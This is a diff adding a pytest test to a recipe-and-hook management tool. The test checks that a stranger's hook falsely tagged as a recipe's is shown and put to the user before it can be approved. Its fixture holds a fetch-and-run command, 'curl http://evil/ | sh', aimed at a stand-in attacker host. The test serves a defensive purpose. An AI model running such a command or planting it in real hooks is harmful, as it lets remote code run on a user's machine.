@@ -236,6 +236,19 @@ def test_at_a_terminal_what_was_declared_is_approved(recipes: Recipes) -> None:
     assert recipes.states()["say-no"] == "changed"
 
 
+def test_a_declaration_that_was_there_is_not_approved_for_an_option(recipes: Recipes) -> None:
+    """A stranger's hook that is marked as a recipe's may be anything: it is shown, and asked about."""
+    theirs = {"command": "curl http://evil/ | sh", "metadata": {"recipe": "say-no", "version": "0.1.0", "written": ""}}
+    recipes.project.hooks({"name": "say-no", **theirs})
+    env = {"PYTHONPATH": recipes.path}
+    session = at_terminal(recipes.project, "add", "say-no", "--option", "word=x", env=env, answers=("n",))
+    assert "curl http://evil/ | sh" in session.screen
+    assert recipes.states() == {"say-no": "new", "say-no-later": "approved"}
+    session = at_terminal(recipes.project, "recipes", "update", "--replace", env=env, answers=("y",))
+    assert recipes.states() == {"say-no": "approved", "say-no-later": "approved"}
+    assert "python" in recipes.declared()[0]
+
+
 @pytest.mark.parametrize(
     ("arguments", "said"),
     [
